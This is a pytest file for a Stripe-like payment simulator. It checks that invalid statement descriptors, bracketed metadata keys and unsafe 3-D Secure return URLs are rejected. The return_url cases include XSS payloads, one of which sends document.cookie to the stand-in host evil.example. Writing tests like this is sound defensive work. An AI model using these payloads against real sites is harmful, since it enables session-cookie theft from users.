"""Payment parameters Stripe refuses (statement descriptors holding < > \\ ' " * or no letter,
metadata keys with square brackets) were charged by the simulator, so an integration passed
testing and was refused at go-live; a return_url of javascript: or data: was passed into
the 3-D Secure next action (review h68ai)."""

from __future__ import annotations

import pytest

from tests.agents.harness import Harness, data, kind

pytestmark = pytest.mark.asyncio

_VISA = {"amount": 1000, "currency": "USD", "payment_method_token": "pm_card_visa"}
_3DS = {"amount": 1500, "currency": "EUR", "payment_method_token": "pm_card_authenticationRequired"}


@pytest.mark.parametrize(
    "descriptor",
    [
        'ORDER "42"',  # Stripe: may not contain < > \ ' " *
        "SHOP*SALE",
        "<b>SALE</b>",
        "it's 42",
        "12345",  # Stripe: must contain at least one letter
        "SHOP\nSALE",  # printed on card statements: no control or format characters
        "SHOP\x00",
        "SHOP\u202eELAS",  # a right-to-left override shows it as another text
        "SHOP\u200b",
    ],
)
async def test_a_statement_descriptor_stripe_refuses_is_refused(
    harness: Harness, descriptor: str
) -> None:
    t = harness.add_tenant()
    out = await harness.send("payment.create", t, {**_VISA, "statement_descriptor": descriptor})
    # docs.stripe.com/get-started/account/statement-descriptors: a complete descriptor (or
    # prefix and suffix) contains at least one letter and none of < > \ ' " *.
    assert kind(out) == "command.rejected", (kind(out), data(out).get("object", {}).get("status"))
    assert data(out)["reason"] == "validation_error", data(out)


async def test_a_metadata_key_with_square_brackets_is_refused(harness: Harness) -> None:
    t = harness.add_tenant()
    # docs.stripe.com/api/metadata: "you can't use square brackets ([ and ]) in keys"
    # (form-encoded, metadata[items[0]] is another parameter altogether).
    out = await harness.send("payment.create", t, {**_VISA, "metadata": {"items[0]": "sku-1"}})
    assert kind(out) == "command.rejected", (kind(out), data(out).get("object", {}).get("status"))
    assert data(out)["reason"] == "validation_error", data(out)


@pytest.mark.parametrize(
    "return_url",
    [
        "javascript:alert(document.cookie)",
        "JavaScript:fetch('//evil.example/'+document.cookie)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "not a url",
    ],
)
async def test_a_return_url_that_is_no_url_to_return_to_is_refused(
    harness: Harness, return_url: str
) -> None:
    t = harness.add_tenant()
    out = await harness.send("payment.create", t, {**_3DS, "return_url": return_url})
    action = (data(out).get("object") or {}).get("next_action") or {}
    # Today: payment.requires_action, the URL handed on for the customer's browser.
    assert return_url not in str(action), action
    assert kind(out) == "command.rejected" and data(out)["reason"] == "validation_error"
